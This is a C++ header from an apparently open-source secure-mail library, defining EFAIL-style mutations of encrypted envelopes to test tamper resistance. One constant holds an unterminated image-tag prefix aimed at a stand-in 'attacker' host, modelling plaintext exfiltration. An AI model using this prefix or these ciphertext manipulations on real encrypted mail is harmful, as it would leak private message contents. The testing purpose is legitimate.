// Copyright 2026 The SecureMail Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#ifndef SECUREMAIL_EFAIL_MUTATION_HPP_
#define SECUREMAIL_EFAIL_MUTATION_HPP_

#include <algorithm>
#include <compare>
#include <cstddef>
#include <optional>
#include <string>
#include <string_view>

#include "securemail/bytes.hpp"
#include "securemail/error.hpp"
#include "securemail/kernel/envelope.hpp"

namespace securemail::efail {

inline constexpr std::size_t kBlockSize = 16;

/// Prefix used by the direct-exfiltration model: an unterminated image tag
/// whose URL would swallow whatever plaintext follows it.
inline constexpr std::string_view kExfiltrationPrefix = "<img src=\"http://attacker/";

enum class MutationKind {
  identity,
  bit_flip,
  block_splice,
  block_duplicate,
  truncate,
  html_prefix_inject,
  ad_swap,
};

inline constexpr MutationKind kAllKinds[] = {
    MutationKind::identity,        MutationKind::bit_flip,
    MutationKind::block_splice,    MutationKind::block_duplicate,
    MutationKind::truncate,        MutationKind::html_prefix_inject,
    MutationKind::ad_swap,
};

constexpr std::string_view to_string(MutationKind kind) {
  switch (kind) {
    case MutationKind::identity: return "identity";
    case MutationKind::bit_flip: return "bit_flip";
    case MutationKind::block_splice: return "block_splice";
    case MutationKind::block_duplicate: return "block_duplicate";
    case MutationKind::truncate: return "truncate";
    case MutationKind::html_prefix_inject: return "html_prefix_inject";
    case MutationKind::ad_swap: return "ad_swap";
  }
  return "unknown";
}

inline std::optional<MutationKind> kind_from_string(std::string_view name) {
  for (MutationKind k : kAllKinds)
    if (to_string(k) == name) return k;
  return std::nullopt;
}

/// One manipulation of an encoded envelope. The meaning of `position` and
/// `second` depends on the kind:
///
///   bit_flip            position = bit offset into the whole encoded envelope
///   block_splice        swap ciphertext blocks `position` and `second`
///   block_duplicate     copy ciphertext block `position` and insert it at
///                       block boundary `second`
///   truncate            position = length kept (strictly shorter than input)
///   html_prefix_inject  insert `payload` at ciphertext byte offset `position`
///   ad_swap             replace the associated data with `payload`
struct Mutation {
  Mutation() = default;
  Mutation(MutationKind k, std::size_t pos = 0, std::size_t sec = 0, Bytes data = {})
      : kind(k), position(pos), second(sec), payload(std::move(data)) {}

  MutationKind kind = MutationKind::identity;
  std::size_t position = 0;
  std::size_t second = 0;
  Bytes payload;

  friend bool operator==(const Mutation&, const Mutation&) = default;
  friend auto operator<=>(const Mutation&, const Mutation&) = default;
};

inline std::string describe(const Mutation& m) {
  std::string out(to_string(m.kind));
  switch (m.kind) {
    case MutationKind::identity:
      break;
    case MutationKind::bit_flip:
      out += " bit=" + std::to_string(m.position);
      break;
    case MutationKind::block_splice:
    case MutationKind::block_duplicate:
      out += " blocks=" + std::to_string(m.position) + "," + std::to_string(m.second);
      break;
    case MutationKind::truncate:
      out += " keep=" + std::to_string(m.position);
      break;
    case MutationKind::html_prefix_inject:
      out += " offset=" + std::to_string(m.position) +
             " len=" + std::to_string(m.payload.size());
      break;
    case MutationKind::ad_swap:
      out += " ad_len=" + std::to_string(m.payload.size());
      break;
  }
  return out;
}

namespace detail {

[[noreturn]] inline void out_of_bounds(const Mutation& m) {
  throw Error(ErrorCode::out_of_bounds, describe(m));
}

inline std::size_t full_blocks(const kernel::EnvelopeLayout& l) {
  return l.ciphertext_size / kBlockSize;
}

}  // namespace detail

/// Applies `m` to a copy of `encoded`. Kinds that address ciphertext blocks or
/// the AD need a well-framed input; truncate and bit_flip work on any bytes.
/// Throws OutOfBounds when the mutation does not fit the input.
inline Bytes mutate(ByteView encoded, const Mutation& m) {
  Bytes out(encoded.begin(), encoded.end());
  switch (m.kind) {
    case MutationKind::identity:
      return out;

    case MutationKind::bit_flip:
      if (m.position >= out.size() * 8) detail::out_of_bounds(m);
      out[m.position / 8] ^= static_cast<std::uint8_t>(0x80u >> (m.position % 8));
      return out;

    case MutationKind::truncate:
      if (m.position >= out.size()) detail::out_of_bounds(m);
      out.resize(m.position);
      return out;

    default:
      break;
  }

  const kernel::EnvelopeLayout l = kernel::parse_layout(encoded);
  const std::size_t blocks = detail::full_blocks(l);
  auto block_at = [&](std::size_t i) { return out.begin() + l.ciphertext_offset + i * kBlockSize; };

  switch (m.kind) {
    case MutationKind::block_splice:
      if (m.position >= blocks || m.second >= blocks || m.position == m.second)
        detail::out_of_bounds(m);
      std::swap_ranges(block_at(m.position), block_at(m.position) + kBlockSize,
                       block_at(m.second));
      return out;

    case MutationKind::block_duplicate: {
      if (m.position >= blocks || m.second > blocks) detail::out_of_bounds(m);
      Bytes copy(block_at(m.position), block_at(m.position) + kBlockSize);
      out.insert(block_at(m.second), copy.begin(), copy.end());
      return out;
    }

    case MutationKind::html_prefix_inject:
      if (m.payload.empty() || m.position > l.ciphertext_size) detail::out_of_bounds(m);
      out.insert(out.begin() + l.ciphertext_offset + m.position, m.payload.begin(),
                 m.payload.end());
      return out;

    case MutationKind::ad_swap: {
      if (m.payload.empty()) detail::out_of_bounds(m);
      Bytes result(encoded.begin(), encoded.begin() + l.ad_offset);
      put_u32_be(result.data() + kernel::kEnvelopeHeaderSize - 4,
                 static_cast<std::uint32_t>(m.payload.size()));
      result.insert(result.end(), m.payload.begin(), m.payload.end());
      result.insert(result.end(), encoded.begin() + l.tag_offset, encoded.end());
      return result;
    }

    default:
      detail::out_of_bounds(m);
  }
}

/// The serialized AD of an encoded envelope, for use as an ad_swap payload.
inline Bytes associated_data_of(ByteView encoded) {
  const kernel::EnvelopeLayout l = kernel::parse_layout(encoded);
  return Bytes(encoded.begin() + l.ad_offset, encoded.begin() + l.tag_offset);
}

}  // namespace securemail::efail

#endif  // SECUREMAIL_EFAIL_MUTATION_HPP_
